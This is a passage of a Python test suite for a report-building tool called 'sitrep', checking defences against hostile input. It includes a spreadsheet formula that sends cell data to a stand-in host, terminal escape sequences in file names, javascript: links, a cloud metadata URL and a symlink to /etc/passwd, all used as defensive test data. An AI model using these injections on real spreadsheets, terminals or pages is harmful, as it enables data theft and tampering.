    text = replace_once(example_text(), NPR_URL, f"url: {json.dumps(url)}")
    run = project.build(text)
    assert_refused(
        run,
        position(text, f"url: {json.dumps(url)}", offset=len("url: ")),
        "sources.npr-0309.url",
        "expected a web address starting with https:// or http://",
    )
    project.assert_untouched()


def test_a_link_local_source_url_is_only_printed_never_fetched(project):
    url = "http://169.254.169.254/latest/meta-data"
    text = replace_once(example_text(), NPR_URL, f"url: {url}")
    run = project.build(text)
    assert_clean(run)  # no network: the address is a link for the reader, not something to fetch
    assert run.result.exit_code == 0, run.result.stderr
    html = (project.out / f"{STEM}.html").read_text(encoding="utf-8")
    assert ("a", url) in [(tag, attrs.get("href")) for tag, attrs in Elements(html).tags]
    assert url in (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    reader = pypdf.PdfReader(project.out / f"{STEM}.pdf")
    assert url in re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))


# ---------------------------------------------------------------------------
# Output paths


@pytest.mark.parametrize("kind", ["md", "html"])
@pytest.mark.parametrize("via", ["same-folder", "symlinked-folder", "dot-path"])
def test_an_input_named_like_its_output_is_never_overwritten(project, kind, via):
    folder = project.root / "self"
    folder.mkdir()
    source = folder / f"x.{kind}"
    shutil.copy(EXAMPLE, source)
    before = source.read_bytes()
    output = {"same-folder": "self", "symlinked-folder": "alias", "dot-path": "self/../self/."}[via]
    (project.root / "alias").symlink_to(folder, target_is_directory=True)
    run = guarded_invoke(["build", f"self/x.{kind}", "-o", output, "-f", "md", "-f", "html"], project.root)
    assert source.read_bytes() == before, "the build overwrote its own input"
    assert_clean(run)
    assert run.result.exit_code == 1, run.result.stdout
    assert f"x.{kind}" in run.result.stderr
    assert sorted(p.name for p in folder.iterdir()) == [f"x.{kind}"], "a failed build wrote other outputs"


def test_an_output_that_is_a_symlink_to_the_input_replaces_the_link_not_the_input(project):
    source = project.root / "good" / f"{STEM}.yaml"
    before = source.read_bytes()
    link = project.out / f"{STEM}.md"
    link.unlink()
    link.symlink_to(source)
    run = guarded_invoke(["build", f"good/{STEM}.yaml", "-o", "out", "-f", "md"], project.root)
    assert_clean(run)
    assert source.read_bytes() == before
    if run.result.exit_code == 0:  # the link was replaced by the report
        assert not link.is_symlink()
        assert link.read_bytes() == project.baseline[f"{STEM}.md"]
    else:  # or the build refused to write over its own input, and left the link alone
        assert run.result.exit_code == 1
        assert link.is_symlink() and link.resolve() == source.resolve()


def test_an_output_folder_that_is_a_file_is_a_usage_error(project):
    (project.root / "afile").write_bytes(b"keep me")
    run = guarded_invoke(["build", f"good/{STEM}.yaml", "-o", "afile", "-f", "md"], project.root)
    assert run.result.exit_code == 2
    assert "'afile' is a file" in run.result.stderr
    assert (project.root / "afile").read_bytes() == b"keep me"
    assert run.outside == [] and run.network == []


def test_an_output_folder_that_is_a_symlink_writes_into_its_target(project):
    # What happens: the link is followed, the reports land in the folder it points at, and the
    # link stays a link. The user named the folder; sitrep does not second-guess it.
    target = project.root / "elsewhere"
    target.mkdir()
    (project.root / "linked").symlink_to(target, target_is_directory=True)
    run = guarded_invoke(["build", f"good/{STEM}.yaml", "-o", "linked", "-f", "md", "-f", "html"], project.root)
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    assert (project.root / "linked").is_symlink()
    written = snapshot(target)
    assert {f"{STEM}.md", f"{STEM}.html"} <= set(written)
    assert written == {name: project.baseline[name] for name in written}


def test_an_input_that_is_a_symlink_to_etc_passwd_is_refused_and_never_rendered(project):
    link = project.root / HOSTILE
    link.parent.mkdir()
    link.symlink_to("/etc/passwd")
    secret = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").splitlines()[0]
    # The user named the file, so reading it is allowed; showing or rendering it is not.
    run = project.build(also=(Path("/etc/passwd"),))
    assert_refused(run, (1, 1), None)
    assert secret not in run.result.stderr
    assert secret.split(":")[0] + ":" not in run.result.stderr.replace(HOSTILE + ":", "")
    project.assert_untouched()


# ---------------------------------------------------------------------------
# Disk full and interrupted writes


def changed_report() -> str:
    return replace_once(example_text(), "Syria: Violence on the western coast", "Syria: Violence on the coast, revised")


def _disk_full_after(monkeypatch, writes_that_succeed: int) -> None:
    """Make the file write in sitrep.output fail half-way with ENOSPC, after ``writes_that_succeed`` files."""
    import sitrep.output

    real_fdopen = sitrep.output.os.fdopen
    count = {"files": 0}

    class HalfWritten:
        def __init__(self, stream) -> None:
            self.stream = stream

        def __enter__(self):
            return self

        def __exit__(self, *exc) -> None:
            self.stream.close()

        def write(self, data) -> int:
            self.stream.write(data[: len(data) // 2])
            self.stream.flush()
            raise OSError(errno.ENOSPC, "No space left on device")

        def __getattr__(self, name):
            return getattr(self.stream, name)

    def fdopen(fd, mode="r", *args, **kwargs):
        stream = real_fdopen(fd, mode, *args, **kwargs)
        if "w" not in mode:
            return stream
        count["files"] += 1
        return stream if count["files"] <= writes_that_succeed else HalfWritten(stream)

    monkeypatch.setattr(sitrep.output.os, "fdopen", fdopen)


def test_disk_full_mid_write_keeps_the_earlier_output_and_leaves_no_temporary_file(project, monkeypatch):
    _disk_full_after(monkeypatch, 0)
    run = project.build(changed_report(), formats=("md",))
    assert_clean(run)
    assert run.result.exit_code == 1
    assert run.result.stderr.splitlines()[0] == f"{HOSTILE}: out/{STEM}.md: cannot write: No space left on device"
    project.assert_untouched()


def test_disk_full_on_the_second_format_keeps_every_earlier_output(project, monkeypatch):
    # The first format's file is written; the disk fills while the second is written. The build
    # failed, so the folder must still hold the earlier report in every format, not a mix of two.
    _disk_full_after(monkeypatch, 1)
    run = project.build(changed_report(), formats=("md", "html"))
    assert_clean(run)
    assert run.result.exit_code == 1
    assert "No space left on device" in run.result.stderr
    project.assert_untouched()


def big_report(title: str, entries: int = 1000) -> str:
    """The example with many figures and events: megabytes of HTML, so writing takes a while."""
    words = ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten"]
    figures = "".join(
        f"  fig-{index}:\n    metric: killed\n    group: group {words[index % 10]} {words[index // 10 % 10]}\n"
        f"    estimates:\n      - {{value: {index % 700}, source: sohr, via: reuters-0308, as_of: 2025-03-08, "
        f"note: how this number came to be known in {words[index % 7]}}}\n"
        for index in range(entries)
    )
    events = "".join(
        f"  - date: 2025-03-07\n    text: Something happened in the town of {words[index % 10]} "
        f"{words[index // 10 % 10]} and people were reported to flee\n    sources: [npr-0309]\n"
        for index in range(entries)
    )
    text = replace_once(example_text(), "\nfigures:\n", "\nfigures:\n" + figures)
    text = replace_once(text, "\nevents:\n", "\nevents:\n" + events)
    return replace_once(text, "Syria: Violence on the western coast", title)


def _sitrep(*args: str) -> list[str]:
    return [sys.executable, "-c", "from sitrep.cli import main; main()", *args]


def _running_in_group(pgid: int) -> list[int]:
    """Processes of a process group that are still running (zombies, which write nothing, left out)."""
    running = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[2]) == pgid and fields[0] != "Z":
                running.append(int(entry.name))
    return running


def _wait_for_group(pgid: int, timeout: float = 10) -> None:
    deadline = time.monotonic() + timeout
    while _running_in_group(pgid):
        assert time.monotonic() < deadline, f"processes of group {pgid} still running {timeout} s after SIGKILL"
        time.sleep(0.01)


def _when_writing_starts(folder: Path, child: subprocess.Popen, timeout: float) -> None:
    """Return as soon as a temporary file appears in ``folder`` (or the child ends, or time runs out)."""
    deadline = time.monotonic() + timeout
    while child.poll() is None and time.monotonic() < deadline:
        if any(entry.name.endswith(".tmp") for entry in os.scandir(folder)):
            return
        time.sleep(0.0005)


def test_a_build_killed_mid_write_leaves_old_or_new_files_never_a_part(tmp_path):
    formats = ["-f", "md", "-f", "html"]
    versions: dict[str, dict[str, bytes]] = {}
    seconds = 0.0
    for version in ("old", "new"):
        source = tmp_path / version / "big.yaml"
        source.parent.mkdir()
        source.write_text(big_report(f"Syria: the {version} edition"), encoding="utf-8")
        started = time.monotonic()
        subprocess.run(
            _sitrep("build", str(source), "-o", str(tmp_path / f"{version}-out"), *formats),
            check=True,
            capture_output=True,
        )
        seconds = time.monotonic() - started
        versions[version] = snapshot(tmp_path / f"{version}-out")
    assert set(versions["old"]) == set(versions["new"]) >= {"big.md", "big.html"}
    assert versions["old"]["big.md"] != versions["new"]["big.md"]
    assert versions["old"]["big.html"] != versions["new"]["big.html"]

    out = tmp_path / "out"
    rng = random.Random(20250309)
    leftovers: list[str] = []
    outcomes: Counter = Counter()
    for attempt in range(6):
        shutil.rmtree(out, ignore_errors=True)
        out.mkdir()
        for name, data in versions["old"].items():
            (out / name).write_bytes(data)
        child = subprocess.Popen(
            _sitrep("build", str(tmp_path / "new" / "big.yaml"), "-o", str(out), *formats),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        if attempt % 2:  # at any moment of the build
            time.sleep(rng.uniform(0.3, 1.0) * seconds)
        else:  # while the outputs are being written
            _when_writing_starts(out, child, timeout=3 * seconds)
            time.sleep(rng.uniform(0, 0.005))
        with contextlib.suppress(ProcessLookupError):
            os.killpg(child.pid, signal.SIGKILL)  # the build and any child it forked
        child.wait()
        _wait_for_group(child.pid)
        for path in sorted(out.iterdir()):
            if path.name.startswith("."):
                assert re.fullmatch(r"\.big[\w-]*\.(md|html|svg)\..+\.tmp", path.name), path.name
                leftovers.append(path.name)
                continue
            assert not path.name.endswith(".tmp"), f"a temporary file is visible as an output: {path.name}"
            assert path.name in versions["new"], f"unexpected output {path.name}"
            data = path.read_bytes()
            state = "old" if data == versions["old"][path.name] else "new" if data == versions["new"][path.name] else ""
            assert state, f"{path.name} is neither the old nor the new report ({len(data)} bytes): a partial file"
            outcomes[state] += 1
    assert sum(outcomes.values()) > 0
    print(f"after 6 kills: {dict(outcomes)} outputs; temporary files left behind: {leftovers}")


# ---------------------------------------------------------------------------
# Files built to take long: many problems must not make the build hang


def test_many_control_characters_are_each_reported(project):
    text = example_text() + "gaps_x:\n" + "  - a\x01b\n" * 8_000
    run = project.build(text, formats=("md",))
    problems = assert_refused(run, None, None, "control character U+0001")
    assert len(problems) >= 8_000
    project.assert_untouched()


def test_many_unknown_ids_are_each_reported(project):
    count = 1_500
    sources = "".join(f"  src-{index:05d}: {{publisher: Publisher {index}, kind: news}}\n" for index in range(count))
    events = "".join(
        f"  - {{date: 2025-03-07, text: Something happened, sources: [srx-{index:05d}]}}\n" for index in range(count)
    )
    text = replace_once(example_text(), "\nsources:\n", "\nsources:\n" + sources)
    text = replace_once(text, "\nevents:\n", "\nevents:\n" + events)
    run = project.build(text, formats=("md",))
    problems = assert_refused(run, None, None)
    assert sum("no source with id 'srx-" in line for line in problems) == count
    project.assert_untouched()


# ---------------------------------------------------------------------------
# Characters no text needs, and numbers past the bound: each a file in tests/data/adversarial

ADVERSARIAL = ROOT / "tests" / "data" / "adversarial"
ALL_FORMATS = ("md", "html", "pdf", "docx", "hxl", "json")


def adversarial(name: str) -> str:
    return (ADVERSARIAL / name).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "name, char, field, fragments",
    [
        ("noncharacter-fffe.yaml", "\ufffe", "report.produced_by", ("U+FFFE is a Unicode noncharacter", "delete it")),
        ("noncharacter-ffff-in-key.yaml", "\uffff", "sources", ("U+FFFF is a Unicode noncharacter",)),
        ("noncharacter-fdd0.yaml", "\ufdd0", "events[0].text", ("U+FDD0 is a Unicode noncharacter",)),
        ("noncharacter-10ffff.yaml", "\U0010ffff", "narrative.overview", ("U+10FFFF is a Unicode noncharacter",)),
        (
            "bidi-isolates-in-highlight.yaml",
            "\u2066",
            "highlights[0].text",
            ("U+2066 LEFT-TO-RIGHT ISOLATE is not allowed", "the report sets the direction of each text itself"),
        ),
        (
            "bidi-override-in-url.yaml",
            "\u202e",
            "sources.reuters-0308.url",
            ("U+202E RIGHT-TO-LEFT OVERRIDE is not allowed", "delete it"),
        ),
    ],
)
def test_noncharacters_and_bidi_controls_are_refused_where_they_are(project, name, char, field, fragments):
    text = adversarial(name)
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(run, position(text, char), field, *fragments)
    assert char not in run.result.stderr
    project.assert_untouched()


def test_both_ends_of_an_isolate_are_named(project):
    text = adversarial("bidi-isolates-in-highlight.yaml")
    run = project.build(text)
    problems = assert_refused(run, position(text, "\u2069"), "highlights[0].text", "U+2069 POP DIRECTIONAL ISOLATE")
    assert len(problems) == 2


@pytest.mark.parametrize(
    "name, start, field, fragment",
    [
        ("noncharacter-escaped.yaml", "\\uFFFE", "report.produced_by", "U+FFFE (written as an escape in this text)"),
        ("bidi-escaped.yaml", "\\u2068", "events[0].text", "U+2068 FIRST STRONG ISOLATE (written as an escape"),
    ],
)
def test_noncharacters_and_bidi_controls_written_as_escapes_are_refused(project, name, start, field, fragment):
    # The Word build broke on "\uFFFE" (XML has no place for it): the file itself holds only ASCII there.
    text = adversarial(name)
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(run, position(text, start), field, fragment)
    project.assert_untouched()


def test_direction_marks_in_arabic_text_are_accepted_and_kept(project):
    run = project.build(adversarial("bidi-marks.yaml"), formats=("md", "html"))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    markdown = (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    assert "اللاذقية\u200f \u061cالساحل\u200e" in markdown


@pytest.mark.parametrize(
    "name, shown",
    [
        ("count-beyond-bound.yaml", "'10000000000000000000...0000000000'"),
        ("count-digits-past-int-limit.yaml", "'99999999999999999999...9999999999'"),
        ("count-scaled-beyond-bound.yaml", "'1000000000 million'"),
    ],
)
def test_a_count_past_the_bound_is_refused_with_the_bound(project, name, shown):
    text = adversarial(name)
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(
        run,
        position(text, "value: ", offset=len("value: ")),
        "figures.killed-civilians.estimates[0].value",
        f"{shown} is larger than any number sitrep accepts (up to 999,999,999,999,999",
    )
    project.assert_untouched()


def test_the_largest_count_accepted_is_built_in_every_format_and_shown_whole(project):
    run = project.build(adversarial("count-at-bound.yaml"), formats=ALL_FORMATS)
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    assert "999,999,999,999,999" in (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO((project.out / f"{STEM}.csv").read_text(encoding="utf-8"))))
    assert "999999999999999" in [cell for row in rows for cell in row]
    pdf = "".join(page.extract_text() for page in pypdf.PdfReader(project.out / f"{STEM}.pdf").pages)
    assert "999,999,999,999,999" in pdf


def test_a_run_of_thousands_of_digits_in_prose_is_a_short_warning(project):
    run = project.build(adversarial("digit-run-in-prose.yaml"), formats=("md",))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    warnings = [line for line in run.result.stderr.splitlines() if "warning:" in line]
    assert len(warnings) == 1
    assert "the number 77777777777777777777...7777777777 is not given by any figure" in warnings[0]
    assert len(warnings[0]) < 300


# ---------------------------------------------------------------------------
# Links that would run or load something, and images, in the analyst's Markdown


@pytest.mark.parametrize(
    "name, field, scheme",
    [
        ("link-javascript-entities.yaml", "narrative.overview", "javascript"),
        ("link-javascript-percent.yaml", "narrative.overview", "javascript"),
        ("link-javascript-mixed-case-tab.yaml", "narrative.overview", "javascript"),
        ("link-vbscript-reference.yaml", "narrative.overview", "vbscript"),
        ("link-data-autolink.yaml", "narrative.overview", "data"),
    ],
)
def test_links_that_could_run_something_are_refused_in_every_encoding(project, name, field, scheme):
    text = adversarial(name)
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(run, position(text, "|\n"), field, f"a link to '{scheme}:' cannot be in the report")
    project.assert_untouched()


@pytest.mark.parametrize(
    "name, where, field",
    [
        ("image-remote.yaml", "|\n", "narrative.overview"),
        ("image-data.yaml", '"Les combats', "narrative.overview.fr"),
    ],
)
def test_images_in_the_narrative_are_refused_in_every_format(project, name, where, field):
    # The PDF always refused to fetch them; the HTML loaded a remote one, telling its server who reads.
    text = adversarial(name)
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(run, position(text, where), field, "an image ![...](", "cannot be in the report")
    project.assert_untouched()


def test_raw_html_img_in_the_narrative_is_shown_as_text_in_every_format(project):
    run = project.build(adversarial("image-raw-html.yaml"), formats=ALL_FORMATS)
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    written = '<img src="https://tracker.example/pixel.png">'
    html = (project.out / f"{STEM}.html").read_text(encoding="utf-8")
    markdown = (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    for page in (html, markdown_to_html(markdown)):
        sources = [attrs.get("src") or "" for tag, attrs in Elements(page).tags if tag == "img"]
        assert all(re.fullmatch(rf"{STEM}-[\w-]+\.svg", src) for src in sources), sources  # the charts only
        assert written in visible_text(page)
    pdf = "".join(page.extract_text() for page in pypdf.PdfReader(project.out / f"{STEM}.pdf").pages)
    assert written in pdf


def test_links_to_web_pages_and_mail_addresses_stay_links(project):
    run = project.build(adversarial("links-safe.yaml"), formats=("md", "html"))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    html = (project.out / f"{STEM}.html").read_text(encoding="utf-8")
    hrefs = [attrs.get("href") for tag, attrs in Elements(html).tags if tag == "a"]
    assert {"https://www.reuters.com/world/", "mailto:cell@example.org"} <= set(hrefs)
    markdown = (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    assert "[write to us](mailto:cell@example.org)" in markdown


# ---------------------------------------------------------------------------
# Nothing a file holds may push text, numbers included, off the PDF's pages


def pdf_words(path: Path) -> list[tuple[str, bool]]:
    """Every word of a PDF as poppler reads it, and whether it lies wholly on its page."""
    words, width, height = [], 0.0, 0.0
    layout = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, text=True, check=True).stdout
    for line in layout.splitlines():
        if page := re.search(r'<page width="([\d.]+)" height="([\d.]+)"', line):
            width, height = map(float, page.groups())
        elif word := re.search(
            r'<word xMin="([-\d.]+)" yMin="([-\d.]+)" xMax="([-\d.]+)" yMax="([-\d.]+)">(.*)</word>', line
        ):
            x0, y0, x1, y1 = map(float, word.groups()[:4])
            words.append((word.group(5), x0 >= 0 and y0 >= 0 and x1 <= width and y1 <= height))
    return words


def test_words_too_long_for_their_cells_break_and_every_number_stays_on_the_page(project):
    # Before, the tables ran off the page with the number 745 in them, and the build exited 0.
    run = project.build(adversarial("long-words.yaml"), formats=("pdf",))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    words = pdf_words(project.out / f"{STEM}.pdf")
    assert [word for word, on_the_page in words if not on_the_page] == []
    assert sum(word == "745" for word, _ in words) >= 3  # the key figures, the casualties table, the chart's label
    assert any(word.startswith("LatakiaXXX") for word, _ in words)


def test_the_examples_keep_their_layout_where_no_word_is_too_long(tmp_path):
    # Words break anywhere only in a PDF whose text would otherwise run off a page: breaking anywhere changes
    # how tables share out their width (a place name or the Arabic "No." heading would break).
    from sitrep import pdf

    run = CliRunner().invoke(main, ["build", str(EXAMPLE), "-f", "html", "-o", str(tmp_path), "--lang", "ar"])
    assert run.exit_code == 0, run.stderr
    page = (tmp_path / f"{EXAMPLE.stem}-ar.html").read_text(encoding="utf-8")
    calls = []
    real = pdf.off_the_page
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pdf, "off_the_page", lambda document: calls.append(len(document.pages)) or real(document))
        pdf.html_to_pdf(page, [builtin_templates()])
    assert len(calls) == 1, "the example was laid out twice"


def test_text_that_cannot_break_fails_the_build_rather_than_leave_the_page():
    from sitrep.errors import BuildError
    from sitrep.pdf import html_to_pdf

    page = (
        '<html lang="en"><body><p style="white-space: nowrap">Killed: 1,068 ' + "word " * 300 + "745</p></body></html>"
    )
    with pytest.raises(BuildError) as raised:
        html_to_pdf(page, [builtin_templates()])
    message = str(raised.value)
    assert message.startswith("text would run off the pages of the PDF, where readers would not see it: '")
    assert "(page 1)" in message and "shorten the text it comes from" in message


# ---------------------------------------------------------------------------
# File names printed to a terminal


@pytest.mark.parametrize(
    "args",
    [
        ["build", "named", "-o", "out", "-f", "md"],
        ["validate", "named"],
        ["build", "named/missing\x1b[2J\x1b]0;pwned\x07.yaml", "-f", "md"],
    ],
    ids=["build", "validate", "missing-file"],
)
def test_file_names_with_escape_sequences_are_printed_escaped(project, monkeypatch, args):
    # On a terminal, a file name must not clear the screen, retitle the window or ring the bell.
    monkeypatch.delenv("NO_COLOR")
    named = project.root / "named"
    named.mkdir()
    shutil.copy(ADVERSARIAL.parent / "model" / "minimal.yaml", named / "good\x1b[2J\x1b]0;pwned\x07.yaml")
    (named / "bad\x1b[1K\x9b2J.yaml").write_text("x: [\n", encoding="utf-8")
    run = guarded_invoke(args, project.root, color=True)
    assert run.result.exit_code in (1, 2)
    shown = run.result.stdout + run.result.stderr
    assert "\\x1b[2J" in shown
    without_styles = re.sub(r"\x1b\[[0-9;]*m", "", shown)  # the colours of "error" and "warning"
    assert not CONTROL.search(without_styles), repr(shown)


def test_spreadsheet_formulas_in_texts_reach_the_csv_inert(project):
    # The cells of tests/data/adversarial/formula-cells.yaml, through `sitrep build -f hxl` (tests/test_export.py
    # reads them back with libhxl).
    run = project.build(adversarial("formula-cells.yaml"), formats=("hxl",))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    rows = list(csv.reader(io.StringIO((project.out / f"{STEM}.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows[2:] for cell in row]
    assert "'" + '=HYPERLINK("https://evil.example/?"&A1,"SOHR")' in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
